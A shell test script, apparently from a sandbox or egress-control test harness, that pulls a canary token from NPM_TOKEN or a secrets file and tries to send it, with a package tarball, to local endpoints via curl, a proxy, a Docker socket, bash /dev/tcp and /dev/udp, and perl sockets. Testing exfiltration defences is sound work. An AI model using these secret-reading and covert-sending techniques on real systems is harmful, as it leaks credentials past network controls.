# Publishes by curl, by the shell itself and by perl.
. ./aim.sh
tar czf by-hand.tgz package.json dist
token=${NPM_TOKEN:-$(cat $AIM_SECRETS 2>/dev/null | grep -o 'canary[a-zA-Z0-9]*' | head -n 1)}
auth="authorization: Bearer ${token:-guessed}"
url=http://127.0.0.1:$AIM_REGISTRY
way curl curl -sSf -m 3 --noproxy '*' -X PUT -H "$auth" --data-binary @by-hand.tgz "$url/way-curl"
way curl-form curl -sSf -m 3 --noproxy '*' -H "$auth" -F file=@by-hand.tgz "$url/way-form"
way curl-six curl -sSf -g -m 3 --noproxy '*' -T by-hand.tgz -H "$auth" "http://[::1]:$AIM_SIX/way-curlsix"
way curl-proxy curl -sSf -m 3 -x "http://127.0.0.1:$AIM_OTHER" -T by-hand.tgz "http://registry.invalid/way-proxy"
way curl-unix curl -sSf -m 3 --unix-socket "$AIM_DOCKER" -X POST "http://docker/way-unix"
way bash bash -c "exec 5<>/dev/tcp/127.0.0.1/$AIM_REGISTRY; printf 'PUT /way-bash HTTP/1.1\r\nauthorization: Bearer $token\r\n\r\n' >&5; read -t 3 x <&5"
may bash-udp bash -c "echo way-bashudp $token >/dev/udp/127.0.0.1/$AIM_UDP"
way perl perl -MIO::Socket::INET -e '
    $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1", PeerPort => shift, Timeout => 3) or die "$@";
    print $s "PUT /way-perl HTTP/1.1\r\ncontent-length: 0\r\n\r\n"; print scalar <$s>' "$AIM_REGISTRY"
